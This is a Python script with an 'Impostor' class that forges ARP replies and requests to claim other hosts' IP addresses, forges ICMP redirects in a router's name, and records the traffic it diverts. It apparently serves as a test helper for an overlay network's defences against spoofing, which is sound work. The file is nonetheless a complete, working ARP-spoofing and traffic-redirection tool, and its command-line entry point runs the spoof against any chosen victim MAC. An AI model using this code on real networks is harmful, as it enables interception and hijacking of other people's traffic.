"""A member of an overlay who says that others' addresses are his, and sees what he draws so.

As a program, `impostor.py DEVICE MAC ADDRESS`, he says to who has that MAC that the address is
his; stdlib only.
"""

import socket
import struct
import sys

ARP, IPV4 = 0x0806, 0x0800
EVERYBODY = b"\xff" * 6
REQUEST, REPLY = 1, 2
ICMP, ECHO_REPLY, REDIRECT, OF_THE_HOST = 1, 0, 5, 1


def opened(device: str) -> socket.socket:
    """What an impostor needs; to be called in his network namespace."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4))
    link.bind((device, IPV4))
    link.settimeout(0)
    return link


class Impostor:
    """``link`` is his device on the overlay, as ``opened``."""

    def __init__(self, link: socket.socket) -> None:
        self._link = link
        self.mac: bytes = link.getsockname()[4]

    def claim(self, address: str, victim: str) -> None:
        """Say to all, and to ``victim`` (a MAC) alone, that he has the address."""
        own, target = socket.inet_aton(address), _bytes(victim)
        for to in (EVERYBODY, target):
            self._send(to, ARP, _arp(REQUEST, self.mac, own, bytes(6), own))
            self._send(to, ARP, _arp(REPLY, self.mac, own, target, own))

    def redirect(self, destination: str, *, by: str, to: str, router: str, victim: str) -> None:
        """Say in the name of ``by``, a router, that ``to`` is nearer to the destination.

        It is ``router``, with the MAC ``victim``, that is told.
        """
        answer = _summed(struct.pack("!BBHHH", ECHO_REPLY, 0, 0, 7, 1), 2)
        head = struct.pack("!BBH", REDIRECT, OF_THE_HOST, 0) + socket.inet_aton(to)
        said = _summed(head + _ipv4(router, destination, answer), 2)
        for _ in range(2):  # the first has the nearer one asked for
            self._send(_bytes(victim), IPV4, _ipv4(by, router, said))

    def drawn(self) -> list[tuple[str, str]]:
        """Source and destination of the packets that were sent to him until now."""
        found = []
        while True:
            try:
                frame, (_, _, kind, _, _) = self._link.recvfrom(65535)
            except BlockingIOError:
                return found
            if kind == socket.PACKET_HOST:
                found.append((socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])))

    def close(self) -> None:
        self._link.close()

    def _send(self, to: bytes, kind: int, payload: bytes) -> None:
        self._link.send(to + self.mac + struct.pack("!H", kind) + payload)


def _bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def _arp(kind: int, mac: bytes, own: bytes, target: bytes, asked: bytes) -> bytes:
    return struct.pack("!HHBBH", 1, IPV4, 6, 4, kind) + mac + own + target + asked


def _ipv4(source: str, destination: str, payload: bytes) -> bytes:
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, ICMP, 0)
    return _summed(head + socket.inet_aton(source) + socket.inet_aton(destination), 10) + payload


def _summed(content: bytes, at: int) -> bytes:
    """With its checksum (RFC 1071) at that offset."""
    total = sum(word for (word,) in struct.iter_unpack("!H", content))
    total = (total & 0xFFFF) + (total >> 16)
    total = ~(total + (total >> 16)) & 0xFFFF
    return content[:at] + struct.pack("!H", total) + content[at + 2 :]


if __name__ == "__main__":
    Impostor(opened(sys.argv[1])).claim(sys.argv[3], sys.argv[2])
